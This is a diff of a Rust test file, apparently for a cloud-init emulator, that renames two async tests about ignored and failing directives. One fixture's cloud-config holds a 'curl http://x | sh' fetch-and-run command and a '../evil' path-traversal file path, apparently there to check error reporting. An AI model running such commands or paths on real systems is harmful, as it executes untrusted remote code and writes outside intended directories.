@@ -319,7 +319,7 @@ mod tests {
     }
 
     #[tokio::test]
-    async fn what_cloud_init_passes_over_is_a_warning() {
+    async fn directives_that_cloud_init_ignores_are_warnings() {
         let dir = tempfile::tempdir().unwrap();
         let user_data = "#cloud-config\nwritefiles: []\nwrite_files:\n- content: lost\n- path: /a\n  content: A\n  encoding: rot13\n  permissions: rw\n  colour: red\nruncmd:\n- [true]\n";
         let (_, log) = boot(dir.path(), user_data).await;
@@ -338,7 +338,7 @@ mod tests {
     }
 
     #[tokio::test]
-    async fn what_cannot_be_done_is_told_and_the_rest_is_done() {
+    async fn failing_directives_are_reported_and_the_rest_is_done() {
         let dir = tempfile::tempdir().unwrap();
         let user_data = "#cloud-config\npackages: [nginx]\nwrite_files:\n- path: ../evil\nruncmd:\n- curl http://x | sh\n- mkdir -p /opt/web\n- [systemctl, start, missing]\n";
         let (started, log) = boot(dir.path(), user_data).await;
